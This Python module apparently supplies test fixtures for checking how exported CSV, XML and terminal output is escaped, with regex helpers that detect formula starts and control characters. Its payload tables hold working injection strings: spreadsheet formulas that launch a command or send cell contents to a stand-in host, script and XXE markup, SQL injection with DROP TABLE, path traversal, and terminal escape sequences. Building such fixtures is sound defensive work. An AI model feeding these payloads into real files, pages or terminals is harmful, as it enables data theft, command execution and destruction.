"""Name what a hostile register holds, and read it back as the documentation says."""

import re

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "command": "=cmd|'/C calc'!A0",
    "link": '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "web": '=WEBSERVICE("http://192.0.2.1")',
    "wide equals": "\uff1d1+1",
    "wide plus": "\uff0b1",
    "wide minus": "\uff0d1",
    "wide at": "\uff20SUM(1)",
    "minus sign": "\u22121",
    "quoted": '"=1+1"',
    "two quotes": "''=1+1",
    "apostrophe": "'=1+1",
    "after a semicolon": "Foo;=1+1;bar",
    "after a semicolon and a quote": "Foo;\"=cmd|'/C calc'!A0;",
    "after a semicolon and a space": "Foo; =1+1",
    "after a comma": "Foo,=1+1,bar",
    "unseen letter first": "\u200b=1+1",
    "number": "1E5",
    "noughts": "007",
    "day": "1-2",
    "true": "TRUE",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "attribute": '" onload="alert(1)" x="',
    "section end": "]]><svg onload=alert(1)>",
    "escaped already": "&lt;b&gt; &amp;amp; &#60;",
    "entity": "&xxe; <!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    "comment end": "--><!--",
    "excel escape": "_x0041_ _x000D_",
    "template": "{{7*7}} {% raise %} ${7*7} %s {0}",
    "sql": "Rob'); DROP TABLE schools;--",
    "sql quotes": 'x" OR "1"="1',
    "path": "../../../etc/passwd",
    "root": "/etc/passwd",
    "drive": "C:\\Windows\\system32\\con",
    "device": "con",
    "dots": "school...",
    "rich": "[red]x[/red] [link=http://192.0.2.1]y[/link] [/]",
    "emoji code": ":bomb: :warning:",
    "emoji": "\N{SCHOOL} \N{PILE OF POO}\N{COMBINING ACUTE ACCENT}",
    "family": "\N{MAN}\u200d\N{WOMAN}\u200d\N{GIRL} School",
    "long": "L" * 900,
}
ORDERS = {
    "clear": "A\x1b[2JB",
    "link": "A\x1b]8;;http://192.0.2.1\x1b\\B\x1b]8;;\x1b\\",
    "clipboard": "A\x1b]52;c;cm0gLXJm\x07B",
    "title": "A\x1b]0;owned\x07B",
    "bell": "A\x07B",
    "backspace": "A\x08\x08B",
    "overwrite": "A\rB",
    "one-byte sequence": "A\x9b2JB",
    "delete": "A\x7fB",
    "right to left": "A\u202eB\u202c",
    "isolate": "A\u2066B\u2069",
    "line separator": "A\u2028B",
    "byte order mark": "A\ufeffB",
    "nothing": "A\x00B",
    "no character": "A\ufffeB\uffff",
}
"""What a terminal obeys, or XML cannot hold: the letters A and B stay."""
PAYLOADS = FORMULAS | MARKUP | ORDERS

# What a spreadsheet may take for a formula, as docs/data.md tells it.
_FIRST = "[=+\\-@\uff1d\uff0b\uff0d\uff20\u2212]"
_BEFORE = "[^\\S;\t\r\n]|[\"'\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]"
_STARTS = re.compile(rf"(?:\A|(?<=[;\t\r\n]))(?:{_BEFORE})*{_FIRST}")
_MARKED = re.compile(rf"(?:\A|(?<=[;\t\r\n]))'(?=(?:{_BEFORE})*{_FIRST})|\A'(?='*[\t\r\n])")
_OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f]")


def unmarked(cell: str) -> str:
    """Return the text of a CSV's cell without the apostrophes that keep it a text."""
    return _MARKED.sub("", cell)


def starts_formula(cell: str) -> bool:
    """Say whether a program could take the cell, or what follows a semicolon, for a formula."""
    return any(not found[0].startswith("'") for found in _STARTS.finditer(cell))


def obeyed(text: str) -> list[str]:
    """Return the letters that a terminal would obey or hide."""
    return _OBEYED.findall(text)
